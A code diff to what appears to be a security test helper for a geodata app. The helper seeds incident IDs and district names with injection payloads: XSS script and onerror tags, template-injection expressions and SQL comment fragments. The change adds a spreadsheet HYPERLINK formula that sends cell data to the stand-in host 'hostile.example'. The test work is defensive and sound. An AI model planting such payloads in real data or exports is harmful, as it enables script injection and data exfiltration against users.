@@ -14,6 +14,7 @@ from geodata.store.runs import save_run
 
 SCRIPT = "<script>hit()</script>"
 MARK = f"{SCRIPT}\"><img src=x onerror=hit()>{{{{ 1234*9 }}}}${{1234*9}}`\u202e=1+1'--"
+FORMULA = '=HYPERLINK("http://hostile.example/?"&A1)'  # what a spreadsheet would work out
 COMPUTED = "11106"  # what a template or a script would make of 1234*9
 STARTS = ("/analyst/", "/command/", "/admin/people", "/admin/audit", "/account")
 
@@ -28,7 +29,7 @@ def hostile_office(folder, url):
     town.change('[[factors]]\nname = "bars"', f'[[factors]]\nname = "{told}"')
     town.incidents["id"] = [f"{MARK}{i}" for i in range(len(town.incidents))]
     told = json.loads((folder / "districts.geojson").read_text())
-    for feature, name in zip(told["features"], (MARK, "D2"), strict=True):
+    for feature, name in zip(told["features"], (MARK, FORMULA), strict=True):
         feature["properties"]["name"] = name
     (folder / "districts.geojson").write_text(json.dumps(told))
     town.bring(database)
